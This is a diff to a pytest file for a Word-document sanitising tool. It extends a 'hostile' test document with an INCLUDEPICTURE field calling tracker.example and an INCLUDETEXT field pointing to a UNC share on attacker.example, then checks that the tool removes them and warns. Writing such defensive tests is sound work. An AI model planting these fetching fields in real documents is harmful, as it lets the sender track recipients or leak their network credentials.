@@ -35,7 +35,15 @@ def _hostile(tmp_path: Path) -> Path:
     hyperlink = (
         f'<w:hyperlink xmlns:r="{R}" r:id="rIdLink"><w:r><w:t>see the report</w:t></w:r></w:hyperlink>'
     ).encode()
-    document = document.replace(b"</w:body>", b"<w:p>" + hyperlink + b"</w:p></w:body>", 1)
+    # fields that fetch when Word updates them: a simple one and a complex one
+    fields = (
+        b"<w:p><w:fldSimple w:instr=' INCLUDEPICTURE \"http://tracker.example/p.png\" \\d '>"
+        b"<w:r><w:t>picture</w:t></w:r></w:fldSimple></w:p>"
+        b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDETEXT '
+        b'"\\\\attacker.example\\share\\x.docx" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
+        b'<w:r><w:t>included</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+    )
+    document = document.replace(b"</w:body>", b"<w:p>" + hyperlink + b"</w:p>" + fields + b"</w:body>", 1)
     doc_rels = _add_rels(
         part(good, "word/_rels/document.xml.rels"),
         _relationship("rIdLink", f"{R}/hyperlink", "https://tracker.example/page"),
@@ -106,12 +114,12 @@ def test_external_references_and_macros_are_left_out_and_said(tmp_path: Path, co
     assert not EXTERNAL.search(_everything(output)), EXTERNAL.search(_everything(output))
     warnings = [line for line in result.stderr.splitlines() if "warning" in line]
     assert len(warnings) == 1 and str(draft) in warnings[0]
-    for said in ("remote template", "hyperlink", "linked image", "macros"):
+    for said in ("remote template", "hyperlink", "linked image", "macros", "2 fields that fetch"):
         assert said in warnings[0], warnings[0]
     # the output is a Word document that reads as the draft does, its hyperlink's words kept
     check = invoke("parse", output, "--format", "json")
     assert check.exit_code == 0, check.stderr
-    assert "see the report" in check.stdout
+    assert "see the report" in check.stdout and "picture" in check.stdout and "included" in check.stdout
 
 
 @pytest.mark.parametrize("command", ["annotate", "redline"])
